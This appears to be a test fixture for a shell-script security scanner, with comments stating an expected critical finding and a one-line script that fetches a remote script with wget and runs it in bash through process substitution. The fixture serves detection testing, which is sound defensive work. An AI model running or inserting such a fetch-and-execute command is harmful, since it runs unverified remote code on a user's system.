# expect: shell.curl_pipe_shell critical
# note: stdin redirected from a process substitution
# path: scripts/tp_stdin_procsub_to_bash.sh
#!/bin/sh
bash < <(wget -qO- https://get.example.net/i)
